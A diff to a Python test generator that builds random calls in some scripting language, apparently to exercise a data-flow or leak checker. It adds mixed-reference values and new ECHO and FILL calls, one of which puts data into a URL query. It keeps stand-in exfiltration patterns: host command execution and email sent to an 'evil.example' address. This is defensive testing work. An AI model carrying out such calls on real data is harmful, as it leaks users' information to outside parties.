@@ -115,9 +115,11 @@ def _reference(random: Random, item: bool = False) -> str:
 
 
 def _value(random: Random, item: bool = False) -> str:
-    """A literal, a reference, or a text with one in it."""
-    name = _reference(random, item)
-    return random.choice(('"plain"', '"other"', name, f'"t {name} u"', f'"{name}{name}"'))
+    """A literal, a reference, a text with one in it, or several of them in a text or a list."""
+    name, other = _reference(random, item), f"${random.choice(VARIABLES)}"
+    simple = ('"plain"', '"other"', name, f'"t {name} u"', f'"{name}{name}"')
+    several = (f'"{name}{other}"', f'"{name}/{other}"', f'[{name}, "t", {other}]', f'"{name} {other}"')
+    return random.choice(simple if random.random() < 0.75 else several)
 
 
 def _call(random: Random, item: bool) -> str:
@@ -151,6 +153,9 @@ def _call(random: Random, item: bool) -> str:
         (0.2, f"@HOST_EXEC (command={name})"),
         (0.5, f'@SEND_EMAIL (to="team@corp.example", body={value})'),
         (0.5, f'@SEND_EMAIL (to="eve@evil.example", body={value})'),
+        (1, f"@ECHO (value={value})"),
+        (0.5, f'@FILL (text="https://c.example/?d=DATA", data={value})'),
+        (0.3, f'@FILL (text="t DATA u", data={value})'),
     )
     weights = [weight for weight, _ in choices]
     return random.choices([text for _, text in choices], weights)[0]
